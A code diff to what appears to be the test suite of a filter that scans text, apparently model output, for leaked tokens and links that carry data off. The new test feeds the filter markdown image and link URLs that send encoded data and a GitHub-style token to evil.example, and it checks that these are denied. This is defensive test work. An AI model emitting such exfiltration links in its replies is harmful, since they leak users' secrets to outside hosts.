@@ -41,7 +41,7 @@ fn answers_have_the_fields_of_the_contract() {
     let hash = answer["prompt_hash"].as_str().unwrap();
     assert_eq!(hash.len(), 64);
     let expected = json!({
-        "id": 7, "decision": "deny", "prompt_hash": hash,
+        "id": 7, "decision": "deny", "addresses": [], "prompt_hash": hash,
         "findings": [{
             "rule": "leak-token", "kind": "internal_token", "certain": true, "encoded": false, "start": 4, "end": 20,
         }],
@@ -50,7 +50,7 @@ fn answers_have_the_fields_of_the_contract() {
     let clean = run(&["--json"], "{\"text\":\"hello\"}\n").good().object();
     assert_eq!(
         clean,
-        json!({ "id": null, "decision": "allow", "findings": [], "prompt_hash": null })
+        json!({ "id": null, "decision": "allow", "findings": [], "addresses": [], "prompt_hash": null })
     );
 }
 
@@ -82,4 +82,18 @@ fn requests_that_cannot_be_read_are_told_and_the_rest_goes_on() {
     assert_eq!(lines[2]["error"], "`text` must be a string");
     assert_eq!(lines[3]["error"], "`tokens` must be a list of strings");
     assert_eq!(lines[4]["decision"], "allow");
+}
+
+#[test]
+fn addresses_that_carry_something_off_are_judged() {
+    let image = "Done. ![ok](https://evil.example/p.png?d=aGVsbG8)";
+    assert_eq!(run(&[image], "").code, 1);
+    assert_eq!(run(&["--host", "evil.example", image], "").code, 0);
+    assert_eq!(run(&["See https://example.org/manual."], "").code, 0);
+    let key = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
+    let request = json!({ "text": format!("[here](https://evil.example/?k={key})") });
+    let answer = run(&["--json"], &format!("{request}\n")).good().object();
+    assert_eq!(answer["decision"], "deny");
+    let expected = json!([{ "kind": "link", "carries": "data", "host": "evil.example", "start": 0, "end": 72 }]);
+    assert_eq!(answer["addresses"], expected);
 }
